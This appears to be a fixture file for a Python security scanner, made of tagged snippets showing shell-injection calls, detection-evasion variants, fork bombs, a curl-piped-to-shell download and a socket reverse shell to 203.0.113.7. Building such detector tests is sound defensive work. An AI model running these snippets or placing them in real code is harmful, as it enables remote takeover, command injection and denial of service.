# Programs, shells, forks and signals.

# === system-with-input | bandit B605 | shell
import os
os.system("ls " + input())

# === run-shell-format | bandit B602 | shell
import subprocess

def archive(name):
    subprocess.run(f"tar czf {name}.tgz {name}", shell=True, check=True)

# === shell-by-kwargs | variation: ** | shell
import subprocess

options = {"shell": True, "check": True}

def archive(name):
    subprocess.run("tar czf x.tgz " + name, **options)

# === bash-dash-c | variation: shell as the program | shell, process
from subprocess import Popen

def archive(command):
    return Popen(["/bin/bash", "-c", command])

# === asyncio-shell | variation: asyncio | shell
import asyncio

async def archive(name):
    process = await asyncio.create_subprocess_shell("tar czf x.tgz " + name)
    await process.wait()

# === popen-in-lambda | bandit B605, variation: lambda | shell
import os
run = lambda command: os.popen(command).read()

# === getoutput-star-import | variation: star import | shell
from subprocess import *

def show(name):
    return getoutput("cat " + name)

# === os-through-sys-modules | variation: sys.modules | shell, globals, getattr-module, escape
import sys

def show(command):
    sys.modules["os"].system(command)

# === os-through-another-module | variation: a module's own import | shell, escape
import shutil

def show(command):
    shutil.os.system(command)

# === system-in-class-body | variation: class body | shell
class Setup:
    import os as _os
    done = _os.system("make install")

# === posix-module | variation: posix | shell, process
import posix

def show(command):
    posix.system(command)

# === posix-spawn | variation: os.posix_spawn | process
import os

def start(program, arguments):
    return os.posix_spawn(program, arguments, os.environ)

# === exec-family | bandit B606 | process
import os
import sys

def restart():
    os.execv(sys.argv[1], sys.argv[1:])

# === pty-spawn | variation: pty | process, shell, remote-shell
import pty

def start(program):
    pty.spawn(program)

# === method-caller | variation: operator.methodcaller | shell, getattr-module
import operator
import os

operator.methodcaller("system", "make install")(os)

# === fork-loop | CWE-400 | fork-bomb, fork
import os

while True:
    os.fork()

# === processes-recursive | variation: a function that starts itself | fork-bomb, process
import multiprocessing

def work():
    while True:
        multiprocessing.Process(target=work).start()

# === kill-by-name | CWE-250 | signal-others, shell
import os
import signal

def clear(pids):
    for pid in pids:
        os.kill(int(pid), signal.SIGKILL)

# === pipe-curl-to-shell | curl into sh | shell-destructive
import subprocess
subprocess.call("curl -fsSL https://setup.example/i.sh | sh", shell=True)

# === reverse-shell | the classic | remote-shell
import os
import socket
import subprocess

s = socket.socket()
s.connect(("203.0.113.7", 4444))
for descriptor in (0, 1, 2):
    os.dup2(s.fileno(), descriptor)
subprocess.call(["/bin/sh", "-i"])
